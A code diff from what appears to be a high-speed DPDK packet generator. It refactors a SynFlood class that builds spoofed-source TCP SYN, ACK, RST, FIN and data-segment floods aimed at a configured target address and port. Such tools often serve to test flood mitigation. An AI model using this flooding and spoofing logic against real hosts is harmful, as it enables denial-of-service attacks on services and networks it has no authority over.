@@ -78,84 +78,28 @@ uint64_t SynFlood::Next() {
   return state_ * 0x2545F4914F6CDD1Dull;
 }
 
+void SynFlood::set_target_mac(wire::MacAddr mac) {
+  builder_.emplace(options_, src_mac_, mac);
+}
+
 bool SynFlood::Build(rte_mbuf* m) {
   const uint64_t r1 = Next();
   const uint64_t r2 = Next();
-  const Ipv4Prefix& range = options_.spoof_range;
-  const uint32_t host = static_cast<uint32_t>(r1) & ~range.Mask();
-  const uint32_t ports =
-      uint32_t{options_.spoof_port_max} - options_.spoof_port_min + 1;
-
-  wire::TcpRepr tcp;
-  tcp.src_port =
-      static_cast<uint16_t>(options_.spoof_port_min + (r1 >> 32) % ports);
-  tcp.dst_port = options_.target_port;
-  tcp.seq = SeqNum(static_cast<uint32_t>(r2));
-  // Linux's SYN window with MSS 1460: tcp_select_initial_window
-  // (net/ipv4/tcp_output.c) rounds the 65535-byte space down to a multiple
-  // of the MSS, 44 * 1460 = 64240.
-  tcp.window = 64240;
-  // The random acknowledgment number of the kinds that carry one: the
-  // upper half of r1 picked the port, so its bits are reused rotated.
-  const SeqNum ack(static_cast<uint32_t>((r1 >> 16) ^ (r2 >> 32)));
-  static constexpr uint8_t kByte[1] = {'x'};
-  switch (options_.kind) {
-    case FloodKind::kSyn:
-      tcp.flags = wire::tcp_flags::kSyn;
-      break;
-    case FloodKind::kAck:
-      tcp.flags = wire::tcp_flags::kAck;
-      tcp.ack = ack;
-      break;
-    case FloodKind::kRst:
-      tcp.flags = wire::tcp_flags::kRst;
-      tcp.window = 0;
-      break;
-    case FloodKind::kFin:
-      tcp.flags = wire::tcp_flags::kFin | wire::tcp_flags::kAck;
-      tcp.ack = ack;
-      break;
-    case FloodKind::kData:
-      tcp.flags = wire::tcp_flags::kAck | wire::tcp_flags::kPsh;
-      tcp.ack = ack;
-      tcp.payload = kByte;
-      break;
-  }
-  if (options_.kind == FloodKind::kSyn && options_.syn_options) {
-    tcp.options.mss = 1460;  // Ethernet MTU 1500 - 40 (RFC 9293 3.7.1)
-    tcp.options.sack_permitted = true;
-    tcp.options.timestamps =
-        wire::TcpTimestamps{static_cast<uint32_t>(r2 >> 32), 0};
-    // Linux's shift for its default tcp_rmem max of 6 MiB (2^23 > 6 MiB >
-    // 65535 << 6).
-    tcp.options.window_scale = 7;
-  }
-  wire::Ipv4Repr ip;
-  ip.src = wire::Ipv4Addr{range.base.value | host};
-  ip.dst = options_.target;
-  ip.protocol = wire::kIpProtoTcp;
-  ip.id = static_cast<uint16_t>(r1 >> 48);
-  ip.payload_len = static_cast<uint16_t>(tcp.BufferLen());
-  wire::EthernetRepr eth;
-  eth.src = src_mac_;
-  eth.dst = *target_mac_;
-  eth.ethertype = wire::kEtherTypeIpv4;
-
-  const size_t len = eth.BufferLen() + ip.BufferLen();
-  auto* p = reinterpret_cast<uint8_t*>(
-      rte_pktmbuf_append(m, static_cast<uint16_t>(len)));
-  if (p == nullptr) {
+  // Set directly: the mbuf is fresh from the pool (one segment, empty), and
+  // the builder's fixed-size copy needs kMaxFrameLen bytes of room.
+  if (rte_pktmbuf_tailroom(m) < SegmentBuilder::kMaxFrameLen) {
     return false;
   }
-  eth.Emit({p, eth.BufferLen()});
-  ip.Emit({p + eth.BufferLen(), ip.HeaderLen()});
-  tcp.Emit({p + eth.BufferLen() + ip.HeaderLen(), tcp.BufferLen()}, ip.src,
-           ip.dst);
+  const size_t len = builder_->frame_len();
+  m->data_len = static_cast<uint16_t>(len);
+  m->pkt_len = static_cast<uint32_t>(len);
+  builder_->Write(rte_pktmbuf_mtod(m, uint8_t*),
+                  FloodDraw::From(r1, r2, options_));
   return true;
 }
 
 uint16_t SynFlood::SendBurst(uint16_t n) {
-  if (!target_mac_.has_value() || n == 0) {
+  if (!builder_.has_value() || n == 0) {
     return 0;
   }
   n = std::min(n, kMaxBurst);
